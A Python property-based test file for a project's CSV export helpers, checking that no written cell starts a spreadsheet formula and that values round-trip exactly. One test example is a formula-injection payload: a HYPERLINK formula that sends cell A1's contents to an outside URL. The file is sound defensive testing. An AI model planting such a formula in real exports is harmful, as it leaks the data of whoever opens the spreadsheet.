"""Every CSV cell is safe to open in a spreadsheet and reads back exactly."""

import csv
import io

from hypothesis import example, given
from hypothesis import strategies as st

from wargame.lib.spreadsheet import BOM, FORMULA_START, cell_in, cell_out, csv_text


@given(st.text())
@example('=HYPERLINK("http://example.org/?leak="&A1,"x")')
@example("'=1+1")
@example("''")
@example("-3")
@example("@SUM(A1)")
def test_no_cell_starts_a_formula_and_every_text_comes_back(text: str) -> None:
    written = cell_out(text)
    assert not written.startswith(FORMULA_START)
    assert cell_in(written) == text


def test_numbers_stay_numbers() -> None:
    assert cell_out(-3) == -3 and cell_out(2.5) == 2.5


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=5))
def test_a_file_starts_with_the_mark_and_its_rows_come_back(rows: list[list[str]]) -> None:
    text = csv_text(rows)
    assert text.startswith(BOM)
    read = [
        [cell_in(cell) for cell in row] for row in csv.reader(io.StringIO(text[1:], newline=""))
    ]
    assert read == [row for row in rows]
